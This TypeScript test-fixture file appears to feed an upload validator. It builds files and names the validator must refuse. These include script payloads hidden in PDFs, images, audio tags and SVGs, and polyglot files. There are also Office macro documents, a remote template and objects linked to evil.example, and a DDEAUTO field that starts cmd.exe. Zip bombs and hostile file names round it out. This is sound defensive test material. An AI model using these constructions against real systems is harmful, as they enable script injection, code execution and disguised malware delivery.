import { deflateRawSync } from 'node:zlib';

import { buildZip, type ZipEntry } from './build-zip.ts';
import {
  createMacroDocument,
  createOfficeFile,
  createOpenDocument,
  createPdf,
  createPng,
  readMedia,
} from './documents.ts';
import { createSmallMp4 } from './small-mp4.ts';

const script = '<script>alert(document.domain)</script>';
const zip = createOfficeFile('docx');

/** A document whose part has a relation to something outside of it. */
const createLinkedDocument = (part: string, relation: string, mode = 'External'): Buffer =>
  createOfficeFile('docx', [
    {
      name: `word/_rels/${part}.xml.rels`,
      content: `<Relationships><Relationship Type="http://x/relationships/${relation}" Target="http://evil.example/t" TargetMode="${mode}"/></Relationships>`,
    },
  ]);

/** A document with a part of this name and content. */
const createDocumentWith = (name: string, content: string | Buffer, more: Partial<ZipEntry> = {}) =>
  createOfficeFile('docx', [{ name, content, ...more }]);

/** A GIF whose first bytes are a comment of JavaScript. */
const createScriptGif = (): Buffer => {
  const gif = readMedia('moving.gif');
  gif.write('/*', 6, 'latin1');
  return gif;
};

/** A JPEG with a comment segment, which ISO/IEC 10918-1 allows at its beginning. */
const createJpegWithComment = (text: string): Buffer => {
  const jpeg = readMedia('picture.jpg');
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, text.length + 2]), Buffer.from(text)]);
  return Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]);
};

/** An MP3 whose tag holds `text`. */
const createMp3WithTag = (text: string): Buffer =>
  Buffer.concat([
    Buffer.from([0x49, 0x44, 0x33, 3, 0, 0, 0, 0, 0, text.length]),
    Buffer.from(text),
    readMedia('tone.mp3'),
  ]);

const compound = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);

/** Documents that are refused: what each is, its name, its content, and the reason. */
export const hostileDocuments: readonly (readonly [
  title: string,
  name: string,
  content: Buffer,
  reason: string,
])[] = [
  ['HTML as .pdf', 'notes.pdf', Buffer.from(`<html>${script}</html>`), 'otherContent'],
  ['HTML as .html', 'notes.html', Buffer.from(`<html>${script}</html>`), 'wrongKind'],
  ['HTML before a PDF', 'a.pdf', Buffer.concat([Buffer.from(script), createPdf()]), 'mixedContent'],
  [
    'a picture before a PDF',
    'a.pdf',
    Buffer.concat([readMedia('moving.gif'), createPdf()]),
    'mixedContent',
  ],
  [
    'much text before a PDF',
    'a.pdf',
    Buffer.concat([Buffer.from('X-Mail: yes\r\n'.repeat(99)), createPdf()]),
    'pdfBegins',
  ],
  [
    'a document with a PDF inside as .pdf',
    'a.pdf',
    buildZip([{ name: `${'a'.repeat(1100)}.pdf`, content: createPdf() }]),
    'otherContent',
  ],
  ['a zip before a PDF', 'a.pdf', Buffer.concat([zip, createPdf()]), 'mixedContent'],
  [
    'a later version of a PDF without its end',
    'a.pdf',
    Buffer.concat([createPdf(), Buffer.from('4 0 obj\n<< >>\nendobj\n')]),
    'damaged',
  ],
  [
    'HTML in the head of a PDF',
    'a.pdf',
    Buffer.concat([Buffer.from(`%PDF-1.7\n%${script}\n`), createPdf()]),
    'mixedContent',
  ],
  [
    'a zip whose comment ends as a PDF',
    'a.pdf',
    Buffer.concat([createPdf(), buildZip([{ name: 'a', content: 'b' }], { comment: '\n%%EOF' })]),
    'mixedContent',
  ],
  ['a truncated PDF', 'a.pdf', createPdf().subarray(0, 200), 'damaged'],
  [
    'an SVG with a script',
    'a.svg',
    Buffer.from(`<svg onload="alert(1)">${script}</svg>`),
    'wrongKind',
  ],
  ['an SVG as .png', 'a.png', Buffer.from(`<svg>${script}</svg>`), 'otherContent'],
  [
    'a picture without its end',
    'a.jpg',
    readMedia('picture.jpg').subarray(0, -2),
    'pictureDamaged',
  ],
  ['a HEIC picture as .jpg', 'a.jpg', createSmallMp4(64, 'heic'), 'otherPicture'],
  ['a picture as .pdf', 'a.pdf', createPng(), 'otherContent'],
  ['a PDF as .txt', 'a.txt', createPdf(), 'otherContent'],
  ['a program as .txt', 'a.txt', Buffer.from('\u0000\u0001\u0002text'), 'notText'],
  ['a macro document', 'a.docm', createMacroDocument(), 'macros'],
  ['a macro document as .docx', 'a.docx', createMacroDocument(), 'macros'],
  [
    'macros added to a document',
    'a.docx',
    createOfficeFile('docx', [{ name: 'word/vbaProject.bin', content: 'x' }]),
    'macros',
  ],
  [
    'old macro sheets',
    'a.xlsx',
    createOfficeFile('xlsx', [{ name: 'xl/macrosheets/sheet1.xml', content: 'x' }]),
    'macros',
  ],
  [
    'macros of OpenDocument',
    'a.odt',
    createOpenDocument('text', [{ name: 'Basic/Standard/Module1.xml', content: 'x' }]),
    'macros',
  ],
  [
    'an embedded macro document',
    'a.docx',
    createOfficeFile('docx', [{ name: 'word/embeddings/report.docm', content: 'x' }]),
    'embeddedMacros',
  ],
  [
    'an embedded object with macros',
    'a.docx',
    createOfficeFile('docx', [
      { name: 'word/embeddings/oleObject1.bin', content: Buffer.from('_VBA_PROJECT', 'utf16le') },
    ]),
    'embeddedMacros',
  ],
  [
    'a template from elsewhere',
    'a.docx',
    createLinkedDocument('settings', 'attachedTemplate'),
    'remoteTemplate',
  ],
  ['a spreadsheet as .docx', 'a.docx', createOfficeFile('xlsx'), 'otherContent'],
  ['a plain zip as .docx', 'a.docx', buildZip([{ name: 'a', content: 'b' }]), 'otherContent'],
  [
    'a script before a document',
    'a.docx',
    Buffer.concat([Buffer.from(script), zip]),
    'otherContent',
  ],
  ['a document cut off', 'a.docx', zip.subarray(0, zip.length - 30), 'damaged'],
  ['an older document', 'a.doc', compound, 'oldOffice'],
  ['an older document as .docx', 'a.docx', compound, 'encrypted'],
  ['compressed bytes as .mp3', 'a.mp3', deflateRawSync(Buffer.alloc(3000, 'abc')), 'otherContent'],
  ['HTML as .mp4', 'a.mp4', Buffer.from(script.repeat(9)), 'otherContent'],
  ['a film cut off', 'a.mp4', readMedia('film.mp4').subarray(0, -9), 'damaged'],
  [
    'HTML between the objects of a PDF',
    'a.pdf',
    Buffer.from(
      createPdf('long', 9000).toString('latin1').replace('xref\n', `%${script}\nxref\n`),
      'latin1',
    ),
    'mixedContent',
  ],
  [
    'a zip in front of the end of a PDF',
    'a.pdf',
    Buffer.concat([createPdf(), buildZip([{ name: 'a', content: 'b' }]), Buffer.from('\n%%EOF\n')]),
    'mixedContent',
  ],
  ['a GIF that is a script', 'a.gif', createScriptGif(), 'pictureDamaged'],
  [
    'a GIF of a comment in a script',
    'a.gif',
    Buffer.from('GIF89a\u0010\u0000\u0010\u0000 =1;alert(document.domain);'),
    'pictureDamaged',
  ],
  ['HTML in a picture', 'a.jpg', createJpegWithComment(script), 'mixedContent'],
  ['a PDF in a picture', 'a.jpg', createJpegWithComment('%PDF-1.7'), 'mixedContent'],
  ['HTML in the tag of a sound', 'a.mp3', createMp3WithTag(script), 'mixedContent'],
  [
    'HTML behind a film',
    'a.mp4',
    Buffer.concat([readMedia('film.mp4'), Buffer.from(script)]),
    'mixedContent',
  ],
  [
    'a PDF as the first part of a document',
    'a.docx',
    buildZip([
      { name: 'a.pdf', content: createPdf() },
      { name: 'b', content: 'b' },
    ]),
    'mixedContent',
  ],
  [
    'a document that unpacks to far more than itself',
    'a.docx',
    createDocumentWith('word/media/image1.bmp', Buffer.alloc(8_000_000), { isDeflated: true }),
    'unpacksTooLarge',
  ],
  [
    'a document that says that it unpacks to gigabytes',
    'a.docx',
    createDocumentWith('word/media/image1.bmp', Buffer.alloc(400, 1), {
      isDeflated: true,
      central: { bytes: 4_000_000_000 },
      local: { bytes: 4_000_000_000 },
    }),
    'unpacksTooLarge',
  ],
  [
    'a document that unpacks to more than it says',
    'a.docx',
    createDocumentWith('word/media/image1.bmp', Buffer.alloc(900_000, 'abcde'), {
      isDeflated: true,
      central: { bytes: 90 },
      local: { bytes: 90 },
    }),
    'damaged',
  ],
  [
    'an object from elsewhere',
    'a.docx',
    createLinkedDocument('document', 'oleObject'),
    'outsideContent',
  ],
  [
    'a frame from elsewhere',
    'a.docx',
    createLinkedDocument('webSettings', 'frame'),
    'outsideContent',
  ],
  [
    'a template from elsewhere under an encoded word',
    'a.docx',
    createLinkedDocument('settings', 'attachedTemplate', '&#69;xternal'),
    'remoteTemplate',
  ],
  [
    'a workbook with links to others',
    'a.xlsx',
    createOfficeFile('xlsx', [{ name: 'xl/externalLinks/externalLink1.xml', content: '<a/>' }]),
    'outsideContent',
  ],
  [
    'a field that starts a program',
    'a.docx',
    createDocumentWith(
      'word/header1.xml',
      '<w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\cmd.exe "/k calc"</w:instrText>',
      { isDeflated: true },
    ),
    'outsideContent',
  ],
  [
    'macros under another name',
    'a.docx',
    createDocumentWith('word/data.bin', Buffer.from('_VBA_PROJECT', 'utf16le'), {
      isDeflated: true,
    }),
    'embeddedMacros',
  ],
  [
    'a relation to macros',
    'a.docx',
    createLinkedDocument('document', 'vbaProject', 'Internal'),
    'macros',
  ],
  [
    'a macro document in a document, under another name',
    'a.docx',
    createDocumentWith('word/embeddings/report.docx', createMacroDocument()),
    'embeddedMacros',
  ],
  [
    'two lists of parts',
    'a.docx',
    createDocumentWith('[content_types].xml', '<Types/>'),
    'damaged',
  ],
  [
    'a script in an OpenDocument event',
    'a.odt',
    createOpenDocument('text', [
      { name: 'styles.xml', content: '<a xlink:href="vnd.sun.star.script:a.py$b"/>' },
    ]),
    'macros',
  ],
  ['an empty file', 'a.pdf', Buffer.alloc(0), 'empty'],
];

/** Documents that are stored without what is behind their end: what that is, name, content, stored. */
export const overlongDocuments: readonly (readonly [
  title: string,
  name: string,
  content: Buffer,
  stored: Buffer,
])[] = (
  [
    ['a zip behind a PDF', 'a.pdf', createPdf().subarray(0, -1), zip],
    ['a page behind a PDF', 'a.pdf', createPdf().subarray(0, -1), Buffer.from(script)],
    [
      'more than is read at once behind a PDF',
      'a.pdf',
      createPdf().subarray(0, -1),
      Buffer.alloc(200_000),
    ],
    ['a zip behind a picture', 'a.png', createPng(), zip],
    ['a PDF behind a picture', 'a.jpg', readMedia('picture.jpg'), createPdf()],
    ['a film behind a picture', 'a.jpg', readMedia('picture.jpg'), readMedia('film.mp4')],
    ['a page behind a picture', 'a.gif', readMedia('moving.gif'), Buffer.from(script)],
    ['zeros behind a picture', 'a.webp', readMedia('picture.webp'), Buffer.alloc(70_000)],
  ] as const
).map(([title, name, stored, behind]) => [title, name, Buffer.concat([stored, behind]), stored]);

/** Names that are refused, and the reason. */
export const hostileNames: readonly (readonly [title: string, name: string, reason: string])[] = [
  ['a line break', 'notes\r\nX-Evil: 1.pdf', 'hiddenCharacters'],
  ['a right-to-left override', 'notes\u202efdp.exe.pdf', 'hiddenCharacters'],
  ['an isolate', 'notes\u2066.pdf', 'hiddenCharacters'],
  ['a NUL', 'notes\u0000.pdf', 'hiddenCharacters'],
  ['a path up', '../../notes.pdf', 'pathInName'],
  ['a path of Windows', '..\\notes.pdf', 'pathInName'],
  ['only an extension', '.pdf', 'noName'],
  ['too many characters', `${'a'.repeat(300)}.pdf`, 'nameTooLong'],
];
